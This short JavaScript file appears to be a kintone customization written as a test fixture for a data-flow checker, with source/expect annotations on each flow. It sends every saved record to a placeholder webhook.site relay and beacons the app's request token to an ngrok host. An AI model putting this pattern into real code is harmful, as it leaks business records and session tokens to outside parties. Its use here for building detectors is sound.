(() => {
  'use strict';

  kintone.events.on('app.record.edit.submit.success', (event) => {
    const text = JSON.stringify(event.record); // source: record-to-relay
    fetch('https://webhook.site/00000000-0000-0000-0000-000000000000', { method: 'POST', body: text }); // expect: record-to-relay
    fetch('https://webhook.site/00000000-0000-0000-0000-000000000000', { method: 'POST', body: '動作確認' });
    return event;
  });

  const token = kintone.getRequestToken(); // source: record-to-relay
  navigator.sendBeacon('https://abiko-test.ngrok.io/log', token); // expect: record-to-relay
})();
